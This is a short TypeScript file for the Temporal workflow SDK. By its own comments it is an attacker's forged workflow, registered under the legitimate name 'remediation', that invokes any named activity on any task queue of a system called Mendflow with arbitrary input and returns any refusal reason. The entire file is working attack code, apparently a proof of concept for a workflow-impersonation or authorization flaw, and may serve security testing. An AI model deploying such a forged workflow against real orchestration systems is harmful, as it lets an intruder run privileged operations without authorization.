import { ApplicationFailure, proxyActivities, rootCause } from '@temporalio/workflow';

/** What the attacker wants done, on which task queue of Mendflow. */
export interface Forged {
  taskQueue: string;
  activity: string;
  input: unknown;
}

/** A workflow of the attacker's own under the name of ours: it hands any activity any input. */
export async function remediation({ taskQueue, activity, input }: Forged): Promise<unknown> {
  const activities = proxyActivities({ taskQueue, startToCloseTimeout: '20s', retry: { maximumAttempts: 1 } });
  try {
    return await (activities[activity] as (input: unknown) => Promise<unknown>)(input);
  } catch (error) {
    const { cause } = error as { cause?: unknown };
    const type = cause instanceof ApplicationFailure ? cause.type : 'unknown';
    return { refused: type, why: rootCause(error) };
  }
}
